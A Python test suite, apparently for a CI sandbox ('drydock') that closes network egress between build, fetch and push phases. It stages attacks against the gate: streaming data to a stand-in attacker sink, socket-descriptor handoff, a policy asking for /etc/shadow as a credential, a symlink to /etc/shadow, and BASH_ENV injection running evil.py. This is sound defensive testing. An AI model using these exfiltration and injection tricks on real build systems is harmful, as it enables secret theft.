#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""gate_test.py - attacks on the gate and on the line between two phases (G)."""
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from dd import (BUILD_PHASE, DRYDOCK, FETCH, PUSH, Job, Skip, case, check, closed, descendants, equal, kill_quietly, main, py, run, step)  # noqa: E402
from world import ALLOWED, ATTACKER, Resolver, Sink, Web  # noqa: E402

W = {}
EGRESS = {"fetch": {"egress": [{"host": "allowed.test", "port": 80}, {"host": "allowed.test", "port": 9000, "tls": "raw"}], "upload": "64MiB"}}


def setup():
    W["dns"] = Resolver()
    W["dns"].say("allowed.test", ALLOWED)
    W["web"] = Web(ALLOWED, "allowed")
    W["raw"] = Sink(ALLOWED, 9000)
    W["sink"] = Sink(ATTACKER, 9999)


@case("G-01 G-02", "a connection that a background helper keeps writing to dies with the step, and so does the helper")
def _():
    marker = "dd-g01-%d" % os.getpid()
    job = Job([step("open", py(f'''
        if os.fork() == 0:
            os.setsid()
            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(sig, signal.SIG_IGN)
            s = tcp("allowed.test", 9000)
            while True:
                s.sendall(b"{marker}" * 10); time.sleep(0.005)
        time.sleep(1)
    '''), FETCH), step("closed", "sleep 1; date +%s.%N | sed 's/.*/@@now=&@@/'")], EGRESS)
    try:
        r = job.run()
    finally:
        job.close()
    equal(r.rc, 0, "exit status", r)
    check(marker.encode() in W["raw"].data, "the helper never got through: the test proves nothing", r)
    check(W["raw"].closed >= 1, "the peer's connection is still open", r)
    check(W["raw"].last < float(r.mark("now")) - 0.9, "bytes arrived after the gate closed", r)


@case("G-03", "a UDP socket sends nothing in either phase, and the host has no conntrack entry for it")
def _():
    before = len(W["sink"].data)
    r = run([step("udp", py(f'''
        def send():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("{ATTACKER}", 9999))
            for i in range(5): s.send(b"x"); time.sleep(0.05)
            return "sent"
        attempt("udp", send)
    '''), FETCH)], EGRESS)
    check(r.mark("udp") != "ok:sent", "UDP went out", r)
    equal(len(W["sink"].data), before, "bytes at the sink", r)
    if os.access("/proc/net/nf_conntrack", os.R_OK):
        with open("/proc/net/nf_conntrack", encoding="ascii") as table:
            check(ATTACKER not in table.read(), "conntrack knows the step", r)


@case("G-04", "an open socket cannot be handed to a closed step through a socket file in the workspace")
def _():
    r = run([step("giver", py('''
        listener = socket.socket(socket.AF_UNIX); listener.bind("/work/hand.sock"); listener.listen(1)
        if os.fork() == 0:
            os.setsid()
            s = tcp("allowed.test", 9000)
            while True:
                peer, _ = listener.accept(); socket.send_fds(peer, [b"x"], [s.fileno()])
        time.sleep(0.5)
    '''), FETCH), step("taker", py('''
        def take():
            s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect("/work/hand.sock")
            return socket.recv_fds(s, 1, 1)[1]
        attempt("take", take)
        mark("fds", sorted(int(f) for f in os.listdir("/proc/self/fd"))[:3])
    '''))], EGRESS)
    check(not r.mark("take").startswith("ok"), f"taking said {r.mark('take')}", r)


@case("G-05", "what a step says about its phase changes nothing")
def _():
    r = run([step("claims", '''
echo "phase=fetch" >>"${GITHUB_OUTPUT:-/dev/null}"; echo "DRYDOCK_PHASE=fetch" >>"${GITHUB_ENV:-/dev/null}"
echo "::set-output name=phase::fetch"; echo 'version: 1' >/work/.drydock.yml; export DRYDOCK_PHASE=fetch
'''), step("fetch-me", py(f'attempt("tcp", lambda: tcp("{ATTACKER}", 9999))'), env={"DRYDOCK_PHASE": "fetch", "PHASE": "push"})],
            EGRESS)
    check(not r.mark("tcp").startswith("ok"), "the gate opened", r)
    equal({e["phase"] for e in r.events("step.start")}, {"build"}, "phases", r)


WIDER = '''version: 1
steps:
  - { phase: push, match: { id: probe } }
phases:
  fetch:
    egress:
      - { host: allowed.test, port: 80 }
      - { host: attacker.test, port: 9999, tls: raw, private: allow, address: %s }
      - { host: "*.test.example", port: 443 }
    upload: 1TiB
  push: { trust: any, workspace: shared }
credentials:
  own: { from: { file: /etc/shadow }, for: { phase: push, steps: [ probe ] }, as: { env: OWN } }
sandbox: { read: [ /root ], syscalls: [ ptrace, unshare ], seccomp: debug }
limits: { time: 10h, pids: 100000 }
''' % ATTACKER


@case("G-06", "a policy file of the repository that asks for more gets nothing, and each thing that it asked for is an event")
def _():
    W["dns"].say("attacker.test", ATTACKER)
    before = len(W["sink"].data)
    r = run([step("probe", py('''
        attempt("tcp", lambda: tcp("attacker.test", 9999))
        attempt("get", lambda: exchange("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"))
        mark("root", os.path.exists("/root/.bashrc")); mark("own", os.environ.get("OWN", "none"))
    '''), FETCH)], EGRESS, files={".drydock.yml": WIDER}, limits={"pids": 500, "time": "5m"})
    check(not r.mark("tcp").startswith("ok"), "the repository opened the gate", r)
    equal(len(W["sink"].data), before, "bytes at the attacker", r)
    equal(r.mark("get"), "ok:this is allowed", "what both allow still works", r)
    equal(r.mark("own"), "none", "a credential of the repository's choice", r)
    equal([e["phase"] for e in r.events("step.start")], ["fetch"], "phase", r)
    events = r.events("policy.narrowed")
    asked = {(e["key"], e["asked"]) for e in events}
    for key, text in (("phases.fetch.egress", "attacker.test:9999"), ("phases.fetch.egress", "*.test.example:443"), ("phases.fetch.upload", "1TiB"), ("phases.push.trust", "any"),
                      ("phases.push.workspace", "shared"), ("credentials", "own"), ("sandbox.read", "/root"), ("sandbox.syscalls", "ptrace"), ("sandbox.seccomp", "debug"),
                      ("limits.time", "10h"), ("limits.pids", "100000"), ("steps", "push for step `probe`")):
        check(any(k == key and a.startswith(text) for k, a in asked), f"no event for {key}: {text} in {asked}", r)
    check(all(e["line"] > 0 and e["why"] and "allowed" in e for e in events), "an event lacks a field", r)
    check("the repository asked for" in r.out, "the person is not told", r)
    names = [e["event"] for e in r.record]
    equal(names[:len(events) + 1], ["run.start"] + ["policy.narrowed"] * len(events), "order of events", r)


@case("G-16", "a rule for a text does not open the gate where shell, directory or variables decide what the text runs, and says what would")
def _():
    evil = "import socket; s = socket.create_connection(('allowed.test', 9000), 3); print('@@out=' + 'yes@@')\n"
    files = {"evil.py": evil, "evil.sh": "python3 /work/evil.py\n", "web/deps.sh": "python3 /work/evil.py\n", "deps.sh": "true\n", "bin/deps": "#!/bin/sh\npython3 /work/evil.py\n"}
    text = {"run": ". ./deps.sh"}
    ways = [({"shell": "python3 ./evil.py {0}"}, "shell: \"python3 *\"", "shell"), ({"env": {"BASH_ENV": "./evil.sh"}}, "env: BASH_ENV", "env"),
            ({"working-directory": "web"}, "working_directory: web", "working_directory")]
    for how, accepts, key in ways:
        for accepted in (False, True):
            job = Job([{"name": "probe", "_phase": BUILD_PHASE, **text, **how}], files=files)
            try:
                job.write("policy.yml", "version: 1\nsteps: [ { phase: fetch, match: { run: \". ./deps.sh\"%s } } ]\nphases: %s\n"
                          % (", " + accepts if accepted else "", json.dumps(EGRESS)))
                r = job.run()
            finally:
                job.close()
            equal([e["phase"] for e in r.events("step.start")], ["fetch" if accepted else "build"], f"{how}: phase", r)
            equal(r.marks.get("out") == "yes", accepted, f"{how}: the gate opened", r)
            [start] = r.events("step.start")
            check(accepted or "would match, but" in start["phase_why"] and f"`{key}:`" in start["phase_why"], f"{how}: {start['phase_why']}", r)
    # Set for the job, and for all of the workflow.
    for level in ("job", "workflow"):
        job = Job([{"name": "probe", "_phase": BUILD_PHASE, **text}], files=files)
        flow = {"on": "push", "jobs": {"test": {"runs-on": "x", "steps": [{"name": "probe", **text}]}}}
        (flow if level == "workflow" else flow["jobs"]["test"])["env"] = {"BASH_ENV": "./evil.sh"}
        try:
            job.write("workflow.yml", json.dumps(flow))
            job.write("policy.yml", "version: 1\nsteps: [ { phase: fetch, match: { run: \". ./deps.sh\" } } ]\nphases: %s\n" % json.dumps(EGRESS))
            r = job.run(command="plan")
        finally:
            job.close()
        check(f"the {level} sets BASH_ENV" in r.out, level, r)


@case("G-16", "a repository that narrows a directory to what lies below a closed one, or behind a link, sees no more than with the whole")
def _():
    home = tempfile.mkdtemp(prefix=".dd-g16-", dir=os.path.expanduser("~"))   # not below /tmp: a step has its own there
    tools = os.path.join(home, "tools")
    try:
        for name in ("closed/inner", "open/inner"):
            os.makedirs(os.path.join(tools, name))
            with open(os.path.join(tools, name, "file"), "w", encoding="ascii") as file:
                file.write("precious")
        os.symlink("closed", os.path.join(tools, "link"))
        os.chmod(os.path.join(tools, "closed"), 0o700)
        probe = py(f'''
            for name in ("closed/inner", "link/inner", "open/inner"):
                attempt(name, lambda: open({tools!r} + "/" + name + "/file").read())
        ''')
        for own in (None, "[ TOOLS/closed/inner, TOOLS/link/inner, TOOLS/open/inner ]"):
            files = {".drydock.yml": "version: 1\nsandbox: { read: %s }\n" % own.replace("TOOLS", tools)} if own else {}
            r = run([step("probe", probe)], files=files, sandbox={"read": [tools]})
            if not own and r.mark("closed/inner").startswith("ok"):
                raise Skip("a step has the id of the user here, and a directory that is closed to others is open to it")
            for name in ("closed/inner", "link/inner"):
                check(not r.mark(name).startswith("ok"), f"{name} can be read", r)
            equal(r.mark("open/inner"), "ok:precious", "what the whole shows", r)
            equal({e["asked"] for e in r.events("policy.narrowed")}, {f"{tools}/{n}/inner" for n in ("closed", "link")} if own else set(), "told", r)
    finally:
        shutil.rmtree(home)


BY_NAME = """
    def post(host, n):
        head = b"POST / HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n" % (host.encode(), n)
        return exchange(host, 80, head + b"L" * n)
"""


def names_below(suffix, n):
    for i in range(n):
        W["dns"].say(f"n{i}.{suffix}", ALLOWED)
    return [f"n{i}.{suffix}" for i in range(n)]


def sent_since(before):
    return sum(n for host, _, n in W["web"].requests[before:])


@case("G-13", "a repository that lists three hundred names below the operator's wildcard gets neither their number nor a budget for each")
def _():
    names, before, asked = names_below("corp.test", 300), len(W["web"].requests), len(W["dns"].queries)
    narrow = {"version": 1, "phases": {"fetch": {"egress": [{"host": n, "port": 80} for n in names]}}}
    r = run([step("probe", py(BY_NAME + '''
    good = 0
    for i in range(300):
        try: good += "this is" in post("n%d.corp.test" % i, 300)
        except OSError: pass
    mark("good", good)
    '''), FETCH)], {"fetch": {"egress": [{"host": "*.corp.test", "port": 80}], "wildcard_names": 2, "upload": "1KiB"}},
            files={".drydock.yml": json.dumps(narrow)})
    check(1 <= int(r.mark("good")) <= 2, f"{r.mark('good')} uploads of 300 bytes went through", r)
    check(sent_since(before) <= 1024, f"{sent_since(before)} bytes arrived", r)
    equal({n for n, _ in W["dns"].queries[asked:] if n.endswith("corp.test")}, set(names[:2]), "names asked outside", r)
    check({"wildcard-names"} <= {e["reason"] for e in r.events("dns.deny")}, "nothing says which cap", r)


@case("G-14", "a workflow of twenty fetch steps has one upload budget for an entry, not twenty")
def _():
    before = len(W["web"].requests)
    loot = py(BY_NAME + "    attempt('sent', lambda: post('allowed.test', 900))")
    r = run([step(f"s{i}", loot, FETCH) for i in range(20)], {"fetch": {"egress": [{"host": "allowed.test", "port": 80}], "upload": "1KiB"}}, timeout=120)
    check(0 < sent_since(before) <= 1024, f"{sent_since(before)} bytes of bodies arrived, the budget is 1024", r)
    total = sum(e["total"]["bytes_out"] for e in r.events("gate.close"))
    check(total <= 1024, f"{total} bytes went out of all steps", r)
    check(r.events("net.deny", reason="upload-used-up") and "phases.fetch.upload" in r.out, "a later step does not say why, and what to do", r)


@case("G-14", "a workflow of many fetch steps has one cap on names for a wildcard; names of earlier steps stay free; a step may have a cap of its own")
def _():
    names_below("wide.test", 20)
    look = "    for i in (%s): attempt('n%%d' %% i, lambda: socket.gethostbyname('n%%d.wide.test' %% i))"
    asked = len(W["dns"].queries)
    steps = [step(f"s{i}", py(look % f"{i}, 0"), FETCH) for i in range(8)]
    r = run(steps, {"fetch": {"egress": [{"host": "*.wide.test", "port": 80}], "wildcard_names": 3}}, timeout=120)
    equal(sorted(r.marks[f"n{i}"].startswith("ok") for i in range(8)), [False] * 5 + [True] * 3, "names that were answered", r)
    equal(len({n for n, _ in W["dns"].queries[asked:]}), 3, "names asked outside", r)
    check(all(e["host"] != "n0.wide.test" for e in r.events("dns.deny")), "a name of an earlier step was refused", r)
    r = run([step("one", py(look % "0, 1"), FETCH), step("two", py(look % "1, 2"), FETCH)],
            {"fetch": {"egress": [{"host": "*.wide.test", "port": 80}], "step_wildcard_names": 1}})
    equal({(e["step"], e["host"]) for e in r.events("dns.deny", reason="step-wildcard-names")}, {("one", "n1.wide.test"), ("two", "n2.wide.test")}, "refused", r)


@case("G-14", "a block of addresses has a cap on those that are dialled, in all steps of a job together")
def _():
    scan = "    for i in (%s): attempt('a%%d' %% i, lambda: tcp('45.10.20.%%d' %% i, 9999, b'x'))"
    before = W["sink"].connections
    r = run([step("one", py(scan % "66, 100, 101"), FETCH), step("two", py(scan % "102, 66"), FETCH)],
            {"fetch": {"egress": [{"cidr": "45.10.20.0/24", "port": 9999}], "cidr_addresses": 2}})
    equal(W["sink"].connections - before, 2, "connections to the one that is there", r)
    equal({e["address"] for e in r.events("net.deny", reason="cidr-addresses")}, {"45.10.20.101", "45.10.20.102"}, "refused", r)
    check("phases.fetch.cidr_addresses" in r.out, "no line would raise it", r)


@case("G-15", "a step with three hundred destinations: sums are whole, and the cut of the list is told")
def _():
    names_below("many.corp.test", 300)
    job = Job([step("probe", py(BY_NAME + "    for i in range(300): post('n%d.many.corp.test' % i, 10 + i)"), FETCH)],
              {"fetch": {"egress": [{"host": "*.many.corp.test", "port": 80}], "wildcard_names": 400}})
    try:
        r = job.run()
        equal(r.rc, 0, "exit status", r)
        end = r.events("gate.close")[0]
        equal([len(end["receipt"]), end["total"]["destinations"], end["not_listed"]["destinations"]], [256, 300, 44], "destinations", r)
        equal(end["total"]["connections"], 300, "connections", r)
        equal({row["host"] for row in end["receipt"]}, {f"n{i}.many.corp.test" for i in range(44, 300)}, "those that sent most", r)
        for key in ("connections", "bytes_in", "bytes_out"):
            equal(sum(row[key] for row in end["receipt"]) + end["not_listed"][key], end["total"][key], key, r)
        check("44 more, not listed" in r.out, "the person is not told", r)
        show = subprocess.run([DRYDOCK, "record", "show", "record.jsonl"], cwd=job.dir, capture_output=True, check=True).stdout.decode()
        check("44 more, not listed" in show, "record show does not tell it:\n" + show)
        again = subprocess.run([DRYDOCK, "policy", "replay", "record.jsonl", "--policy", "policy.yml"], cwd=job.dir, capture_output=True, check=False)
        check(again.returncode != 0 and b"44 destinations are not listed" in again.stdout, f"replay: {again.returncode} {again.stdout}")
        suggested = subprocess.run([DRYDOCK, "policy", "suggest", "record.jsonl"], cwd=job.dir, capture_output=True, check=False).stdout.decode()
        check("44 destinations are not listed" in suggested and "wildcard_names: 512" in suggested, "suggest:\n" + suggested)
    finally:
        job.close()


@case("G-06", "a repository that writes a limit of nothing does not take the operator's limit away")
def _():
    for key in ("disk", "memory"):
        r = run([step("a", "echo @@a=ran@@")], files={".drydock.yml": "version: 1\nlimits: { %s: 0B }\n" % key}, rc=2, limits={"disk": "10MiB"})
        check("a" not in r.marks and f"`{key}` cannot be" in r.out and ".drydock.yml:2:" in r.out, f"limits.{key} was taken away, or no place was named", r)


@case("G-06", "what the repository takes away is taken away, in the plan as in the run")
def _():
    narrow = 'version: 1\nsteps: [ { phase: build, match: { id: probe } } ]\nlimits: { pids: 50 }\n'
    job = Job([step("probe", py('attempt("tcp", lambda: tcp("allowed.test", 9000))'), FETCH)], EGRESS, files={".drydock.yml": narrow})
    try:
        plan = job.run("--json", command="plan")
        r = job.run()
    finally:
        job.close()
    equal(r.rc, 0, "exit status", r)
    check(not r.mark("tcp").startswith("ok"), "the gate was open", r)
    equal(r.events("policy.narrowed"), [], "refusals", r)
    planned = json.loads(plan.out)["steps"][0]
    equal((planned["phase"], planned["limits"]["pids"]), ("build", 50), "the plan", plan)
    check(".drydock.yml:2:10" in planned["phase_why"], f"the rule is not named: {planned['phase_why']}", plan)


@case("G-06", "a step that the repository takes to build holds none of the operator's credentials, and the others keep theirs")
def _():
    narrow = 'version: 1\nsteps: [ { phase: build, match: { id: one } } ]\ncredentials: { kept: { for: { steps: [ one, two ] } } }\n'
    credentials = {name: {"from": {"file": "/dev/null"}, "for": {"phase": "fetch", "steps": ["one", "two"]}, "as": {"env": name.upper()}} for name in ("kept", "dropped")}
    show = 'echo "@@%s=${KEPT:-none},${DROPPED:-none}@@"'
    job = Job([step("one", show % "one", FETCH), step("two", show % "two" + '; test "$KEPT" = s3cret-of-two && echo "@@held=yes@@"', FETCH)], EGRESS,
              files={".drydock.yml": narrow}, credentials=credentials)
    try:
        secret = job.write("secret", "s3cret-of-two")
        os.chmod(secret, 0o600)
        r = job.run("--secret", f"kept={secret}")
    finally:
        job.close()
    equal(r.rc, 0, "exit status", r)
    equal(r.mark("one"), "none,none", "what the moved step holds", r)
    check(r.mark("held") == "yes" and r.mark("two").endswith(",none"), "what the other step holds", r)
    equal([(e["step"], e["credential"]) for e in r.events("cred.grant")], [("two", "kept")], "grants", r)


@case("G-06", "a file of the repository that does not parse, or is a link, stops the run with its place and nothing runs")
def _():
    for text, told in (("version: 1\nphases: { fetch: { egres: none } }\n", ".drydock.yml:2:20"), ("version: 1\nfor: { repository: x }\n", ".drydock.yml:2:6")):
        r = run([step("probe", "echo @@ran=yes@@", FETCH)], EGRESS, files={".drydock.yml": text}, rc=2)
        check(told in r.out, f"no position {told}", r)
        check("ran" not in r.marks, "the step ran", r)
    job = Job([step("probe", "echo @@ran=yes@@", FETCH)], EGRESS)
    try:
        os.symlink("/etc/shadow", os.path.join(job.dir, "src", ".drydock.yml"))
        r = job.run()
    finally:
        job.close()
    equal(r.rc, 2, "exit status with a link", r)
    check("a link is not followed" in r.out and "root:" not in r.out, "a link was followed", r)


@case("G-07", "the supervisor is killed while the gate is open: the step is dead and nothing is sent any more")
def _():
    marker = "dd-g07-%d" % os.getpid()
    job = Job([step("open", py(f'''
        s = tcp("allowed.test", 9000); mark("up", "yes"); argv = "{marker}"
        while True: s.sendall(b"G07" * 100); time.sleep(0.002)
    ''') + f"\n: {marker}\n", FETCH)], EGRESS)
    try:
        process = job.popen()
        os.set_blocking(process.stdout.fileno(), True)
        deadline = time.monotonic() + 20
        while b"G07" not in W["raw"].data and time.monotonic() < deadline:
            time.sleep(0.02)
        check(b"G07" in W["raw"].data, "the step never got through: the test proves nothing")
        below = descendants(process.pid)
        os.kill(process.pid, signal.SIGKILL)
        time.sleep(0.3)
        seen = W["raw"].last
        killed = time.time()
        check(seen <= killed, "clock")
        time.sleep(0.3)
        check(W["raw"].last < killed, "bytes arrived after the death of the supervisor")
        deadline = time.monotonic() + 5
        while (alive := [p for p in below if os.path.exists(f"/proc/{p}")]) and time.monotonic() < deadline:
            time.sleep(0.05)
        check(not alive, f"still alive: {alive}")
    finally:
        kill_quietly(process.pid)
        process.wait()
        job.close()


@case("G-08", "rules that read back differently stop the job before the step's first byte")
def _():
    job = Job([step("probe", "echo @@ran=yes@@; touch /work/ran")])
    try:
        r = job.run(env={"DRYDOCK_FAULT": "rules_readback"})
    finally:
        job.close()
    equal(r.rc, 3, "exit status", r)
    check("ran" not in r.marks, "the step ran", r)


@case("G-09", "of two jobs at one time the closed one stays closed")
def _():
    loop = '''
        end = time.time() + 2; good = 0
        while time.time() < end:
            try: good += exchange("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n") == "this is allowed"
            except OSError: pass
            time.sleep(0.02)
        mark("good", good)
    '''
    one, two = Job([step("open", py(loop), FETCH)], EGRESS), Job([step("closed", py(loop))])
    try:
        first = one.popen()
        second = two.run()
        out = first.communicate(timeout=30)[0].decode()
    finally:
        one.close()
        two.close()
    equal(second.mark("good"), "0", "connections of the closed job", second)
    check("@@good=0@@" not in out and "@@good=" in out, "the open job was not open:\n" + out)


@case("G-10", "the push step starts in an empty process tree, without the fetch allowlist")
def _():
    r = run([step("build", py('''
        if os.fork() == 0:
            os.setsid(); signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(60)
        open("/work/dist", "w").write("x")
    ''')), step("publish", py('''
        mark("pids", len([p for p in os.listdir("/proc") if p.isdigit()]))
        attempt("fetchhost", lambda: socket.getaddrinfo("allowed.test", 80))
    '''), PUSH)], {**EGRESS, "push": {"egress": [{"host": "push.test", "port": 80}], "artifacts": ["dist"]}})
    check(int(r.mark("pids")) <= 4, f"{r.mark('pids')} processes in the push step", r)
    check(r.mark("fetchhost").startswith("gai"), "the fetch allowlist still holds", r)


@case("G-12", "closing writes a receipt: exact bytes for the open step, exactly zero for the closed one")
def _():
    W["web"].requests.clear()
    r = run([step("open", py('''
        attempt("get", lambda: exchange("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"))
    '''), FETCH), step("closed", "true")], EGRESS)
    equal(r.mark("get"), "ok:this is allowed", "answer", r)
    closes = r.events("gate.close")
    equal(len(closes), 2, "gate.close events", r)
    text = json.dumps(closes[0])
    check("allowed.test" in text, "the receipt names no destination", r)
    rows = [x for x in closes[0]["receipt"] if x["host"] == "allowed.test"]
    sent = len(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
    equal(sum(x["bytes_out"] for x in rows), sent, "bytes out", r)
    check(sum(x["bytes_in"] for x in rows) > 15, "no bytes in", r)
    equal(sum(x["bytes_out"] + x["bytes_in"] for x in closes[1]["receipt"]), 0, "bytes of the closed step", r)
    check(all(e["verified"] is True for e in closes), "a close was not verified", r)


@case("G-12", "a closing that did not happen is noticed when it is read back, and nothing runs after it")
def _():
    job = Job([step("open", py('''
        attempt("get", lambda: exchange("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"))
    '''), FETCH), step("after", "echo @@after=yes@@")], EGRESS)
    try:
        r = job.run(env={"DRYDOCK_FAULT": "rules_close"})
    finally:
        job.close()
    equal(r.mark("get"), "ok:this is allowed", "answer", r)
    equal(r.rc, 3, "exit status", r)
    check("after" not in r.marks and "is left in" in r.out, "the next step ran, or no reason was given", r)
    check(not any(e["verified"] for e in r.events("gate.close")), "the record says that the closing was verified", r)


@case("X-09", "a fault of the gates' zygote ends the step that it was for, and none falls back to a gate of another kind")
def _():
    job = Job([step("probe", "echo @@ran=yes@@")])
    try:
        equal(job.run().mark("ran"), "yes", "without a fault")
        for fault in ("gate_zygote", "gate_zygote_fork", "gate_lock", "gate_seccomp"):
            r = job.run(env={"DRYDOCK_FAULT": fault})
            equal((r.rc, r.marks, "gate" in r.out), (3, {}, True), fault, r)
    finally:
        job.close()


@case("N-28", "what the wall let through is held against what was admitted: one address too many breaks the step off, and nothing runs after it")
def _():
    job = Job([step("open", py('''
        attempt("get", lambda: exchange("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"))
    '''), FETCH), step("after", "echo @@after=yes@@")], EGRESS)
    try:
        r = job.run(env={"DRYDOCK_FAULT": "admitted"})
    finally:
        job.close()
    equal(r.mark("get"), "ok:this is allowed", "answer", r)
    equal(r.rc, 3, "exit status", r)
    check("after" not in r.marks and "nobody admitted it" in r.out, "the next step ran, or no reason was given", r)
    equal([e["outcome"] for e in r.events("step.end")], ["broken off"], "outcome", r)
    check(all(e["verified"] for e in r.events("gate.close")), "the gate was not closed", r)


if __name__ == "__main__":
    main(setup)
